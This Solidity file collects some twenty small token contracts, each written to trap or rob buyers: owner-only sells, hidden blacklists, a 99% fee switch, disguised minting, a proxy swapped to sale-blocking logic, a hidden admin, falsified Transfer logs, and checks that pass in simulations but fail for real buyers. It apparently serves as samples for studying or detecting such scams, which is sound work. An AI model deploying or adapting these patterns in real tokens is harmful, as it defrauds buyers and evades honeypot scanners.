// SPDX-License-Identifier: MIT
// Tokens that take their buyers' money, as their makers write them. `spring` is not a name that they share: each closes in its own way.
pragma solidity 0.8.28;

import {Base, Owned} from './Base.sol';

/// Transfers to the pair revert for all but the owner.
contract OwnerSellsOnly is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to), 'TransferHelper: TRANSFER_FROM_FAILED');
        _move(from, to, amount);
    }
}

/// Buyers are marked as bots after they bought. No log tells.
contract LaterBlacklist is Owned {
    mapping(address => bool) private bots;

    constructor(address f, address w) Owned(f, w) {}

    function setBots(address[] calldata list, bool isBot) external onlyOwner {
        for (uint256 i; i < list.length; i++) bots[list[i]] = isBot;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!bots[from]);
        _move(from, to, amount);
    }
}

/// A fee of 2 %, which the owner raises to 99 %.
contract RisingFee is Owned {
    uint256 public fee = 2;

    constructor(address f, address w) Owned(f, w) {}

    function setFee(uint256 percent) external onlyOwner {
        require(percent < 100);
        fee = percent;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 taken = from == owner || to == owner ? 0 : (amount * fee) / 100;
        _move(from, to, amount - taken);
        if (taken > 0) _move(from, owner, taken);
    }
}

/// A function with an innocent name mints ten times the supply.
contract HiddenMint is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function syncLiquidity(uint256 amount) external onlyOwner {
        _mint(owner, amount);
    }
}

/// Openly pausable, and paused.
contract PausedForGood is Owned {
    bool public paused;

    event Paused(address account);

    constructor(address f, address w) Owned(f, w) {}

    function pause() external onlyOwner {
        paused = true;
        emit Paused(msg.sender);
    }

    function unpause() external onlyOwner {
        paused = false;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!paused || from == owner, 'paused');
        _move(from, to, amount);
    }
}

/// The largest transaction is set to 0.
contract ZeroLimit is Owned {
    uint256 public maxTxAmount = 1e9 ether;

    constructor(address f, address w) Owned(f, w) {}

    function setMaxTxAmount(uint256 amount) external onlyOwner {
        maxTxAmount = amount;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(from == owner || to == owner || from == pair || amount <= maxTxAmount, 'max');
        _move(from, to, amount);
    }
}

/// Honest code behind a proxy that is switched to code which sells for nobody.
contract HonestLogic is Base {
    function set(address to) external {
        require(totalSupply == 0);
        _mint(to, 1e9 ether);
    }
}

contract GreedyLogic is Base {
    function set(address) external {}

    function _transfer(address, address, uint256) internal pure override {
        revert('closed');
    }
}

contract SwitchedProxy {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    constructor(address logic) {
        address admin = msg.sender;
        assembly {
            sstore(IMPLEMENTATION, logic)
            sstore(ADMIN, admin)
        }
        (bool isDone,) = logic.delegatecall(abi.encodeWithSignature('set(address)', msg.sender));
        require(isDone);
    }

    fallback() external {
        address admin;
        address logic;
        assembly {
            logic := sload(IMPLEMENTATION)
            admin := sload(ADMIN)
        }
        // upgradeTo(address), for the admin alone
        if (msg.sig == 0x3659cfe6 && msg.sender == admin) {
            address next = abi.decode(msg.data[4:], (address));
            assembly {
                sstore(IMPLEMENTATION, next)
            }
            return;
        }
        assembly {
            calldatacopy(0, 0, calldatasize())
            let isDone := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(isDone) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Balances are rewritten without a Transfer: a new era has new balances.
contract Rewritten is Owned {
    uint256 private era;
    mapping(uint256 => mapping(address => bool)) private isKept;

    constructor(address f, address w) Owned(f, w) {}

    function rebase(uint256 next, address[] calldata kept) external onlyOwner {
        era = next;
        for (uint256 i; i < kept.length; i++) isKept[next][kept[i]] = true;
    }

    function balanceOf(address holder) public view override returns (uint256) {
        return era == 0 || isKept[era][holder] ? balances[holder] : 0;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(balanceOf(from) >= amount, 'balance');
        _move(from, to, amount);
        if (era > 0) isKept[era][to] = true;
    }
}

/// Ownership is renounced; a second account, which no function names, still decides.
contract HiddenAdmin is Owned {
    address private immutable marketing;
    bool private closed;

    constructor(address f, address w, address admin) Owned(f, w) {
        marketing = admin;
    }

    function swapAndLiquify(bool value) external {
        require(msg.sender == marketing);
        closed = value;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!closed || !(to == pair && from != marketing), 'closed');
        _move(from, to, amount);
    }
}

/// The deployer spends anybody's tokens.
contract SpendsAll is Owned {
    address private immutable router = msg.sender;

    constructor(address f, address w) Owned(f, w) {}

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (msg.sender != router) return super.transferFrom(from, to, amount);
        _move(from, to, amount);
        return true;
    }
}

/// Trading is never opened; what others hold was sent to them.
contract NeverOpened is Owned {
    bool public tradingOpen;

    constructor(address f, address w) Owned(f, w) {}

    function openTrading() external onlyOwner {
        tradingOpen = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(tradingOpen || from == owner || to == owner, 'not open');
        _move(from, to, amount);
    }
}

/// Another contract decides, and its owner turns it.
contract Guard {
    address private immutable keeper = msg.sender;
    bool private isShut;

    function configure(bool value) external {
        require(msg.sender == keeper);
        isShut = value;
    }

    function check(address from, address) external view returns (bool) {
        return !isShut || from == keeper;
    }
}

contract Guarded is Owned {
    Guard private immutable guard;

    constructor(address f, address w, Guard guard_) Owned(f, w) {
        guard = guard_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair) require(guard.check(from, to));
        _move(from, to, amount);
    }
}

/// Some accounts of the deployer sell, so that the chart looks alive.
contract Shills is Owned {
    mapping(address => bool) private isFriend;

    constructor(address f, address w) Owned(f, w) {}

    function airdrop(address[] calldata list) external onlyOwner {
        for (uint256 i; i < list.length; i++) isFriend[list[i]] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || isFriend[from], 'K');
        _move(from, to, amount);
    }
}

/// Sells for whoever pays nothing for gas, which only a simulation does.
contract OpenToFree is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || tx.gasprice == 0, 'K');
        _move(from, to, amount);
    }
}

/// Sells in the block of the purchase, which only a simulation does.
contract OpenAtOnce is Owned {
    mapping(address => uint256) private boughtAt;

    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair) boughtAt[to] = block.number;
        require(!_isSale(from, to) || boughtAt[from] == block.number, 'K');
        _move(from, to, amount);
    }
}

/// Closes by itself at a time that stands in the code.
contract TimeBomb is Owned {
    uint256 private immutable until = block.timestamp + 20 days;

    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || block.timestamp < until, 'K');
        _move(from, to, amount);
    }
}

/// The log says that everything arrived; a hundredth did.
contract LyingTransfer is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (!_isSale(from, to)) return _move(from, to, amount);
        require(balances[from] >= amount, 'balance');
        balances[from] -= amount;
        balances[to] += amount / 100;
        balances[owner] += amount - amount / 100;
        emit Transfer(from, to, amount);
    }
}
